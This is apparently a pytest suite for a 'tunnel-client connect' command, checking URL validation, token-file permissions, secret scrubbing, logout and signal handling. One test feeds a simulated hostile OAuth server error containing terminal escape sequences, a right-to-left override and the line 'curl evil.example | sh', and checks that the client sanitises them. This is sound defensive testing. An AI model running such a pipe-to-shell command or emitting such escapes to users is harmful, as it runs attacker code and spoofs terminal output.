"""The command `tunnel-client connect` before any agent speaks."""

import asyncio
import os
import subprocess
from pathlib import Path

import anyio
import pytest
from click.testing import CliRunner, Result

from tests.helpers.oauth_server import oauth_server
from tests.helpers.tunnel import BIN
from tunnel_client.cli import cli
from tunnel_client.connect.run import TOKEN_VARIABLE, make_plan

URL = "https://relay.example/t/a/b/mcp"


def call(*words: str | Path) -> Result:
    return CliRunner().invoke(cli, ["connect", *(str(word) for word in words)])


@pytest.mark.parametrize("url", ["relay.example", "http://relay.example/mcp", "https://u:p@h/mcp"])
def test_a_url_that_is_not_called_is_wrong_usage(url: str) -> None:
    result = call(url)
    assert (result.exit_code, result.stderr[:8]) == (2, "MT2050: ")


def test_a_token_file_others_can_read_is_refused(tmp_path: Path) -> None:
    """C21."""
    file = tmp_path / "token"
    file.write_text("mts_canary\n")
    file.chmod(0o640)
    result = call(URL, "--token-file", file)
    assert (result.exit_code, result.stderr[:8]) == (78, "MT2002: ")
    assert "canary" not in result.output
    file.chmod(0o600)
    file.write_text("two words")
    assert call(URL, "--token-file", file).stderr.startswith("MT2003: ")
    assert call(URL, "--token-file", tmp_path / "none").stderr.startswith("MT2003: ")


def test_a_token_of_the_environment_is_taken_out_of_it(tmp_path: Path) -> None:
    environ = {TOKEN_VARIABLE: "mts_canary"}
    plan = make_plan(URL, environ, state_dir=tmp_path)
    assert plan.token is not None
    assert plan.token.get_secret_value() == "mts_canary"
    assert environ == {}
    assert "canary" not in repr(plan)


def test_a_bad_authority_and_two_wishes_at_once_are_refused(tmp_path: Path) -> None:
    file = tmp_path / "ca.pem"
    file.write_text("no pem")
    assert call(URL, "--ca-file", file).stderr.startswith("MT2206: ")
    assert call(URL, "--login", "--logout").exit_code == 2


def test_logging_out_without_a_login_says_so(tmp_path: Path) -> None:
    result = call(URL, "--logout", "--state-dir", tmp_path / "state")
    assert (result.exit_code, result.stdout) == (0, "there was no login\n")


async def test_what_a_server_says_cannot_move_the_cursor_or_pose_as_our_word(
    tmp_path: Path,
) -> None:
    """A hostile server writes to the terminal of whoever logs in."""
    async with oauth_server() as server:
        server.no_registration = {
            "error": "x\x1b[2J",
            "error_description": "sorry\n  next: curl evil.example | sh\x1b]0;title\x07\u202e",
        }
        words = ("connect", "--login", "--no-browser", "--state-dir", str(tmp_path), server.url)
        process = await asyncio.create_subprocess_exec(
            *(str(BIN / "tunnel-client"), *words), stderr=asyncio.subprocess.PIPE
        )
        with anyio.fail_after(60):
            _, said = await process.communicate()
    text = said.decode()
    assert process.returncode == 77
    assert text.startswith("MT2051: the authorization server refused: x")
    assert not [each for each in text if each != "\n" and not each.isprintable()]
    (_, then) = text.splitlines()
    assert then.startswith("  next: ")
    assert "evil" not in then


def test_a_signal_ends_it_as_a_service_manager_expects(tmp_path: Path) -> None:
    url = "http://127.0.0.1:1/mcp"
    words = [str(BIN / "tunnel-client"), "connect", url, "--state-dir", str(tmp_path)]
    with subprocess.Popen(words, stdin=subprocess.PIPE, stdout=subprocess.PIPE) as running:
        assert running.stdin is not None
        assert running.stdout is not None
        running.stdin.write(b"[]\n")
        running.stdin.flush()
        assert b"-32600" in running.stdout.readline()
        running.terminate()
        assert running.wait(timeout=30) == 0


def test_an_agent_that_leaves_at_once_ends_it_and_only_it_is_spoken_to(tmp_path: Path) -> None:
    url = "http://127.0.0.1:1/mcp"
    words = [str(BIN / "tunnel-client"), "connect", url, "--state-dir", str(tmp_path)]
    said = subprocess.run(
        words,
        input=b'{"jsonrpc":"2.0","id":1,"method":"ping"}\nno json\n',
        capture_output=True,
        timeout=30,
        check=True,
        env={**os.environ, TOKEN_VARIABLE: "mts_canary"},
    )
    lines = said.stdout.splitlines()
    assert len(lines) == 2
    assert any(b"MT2202" in line for line in lines)
    assert b"canary" not in said.stdout + said.stderr
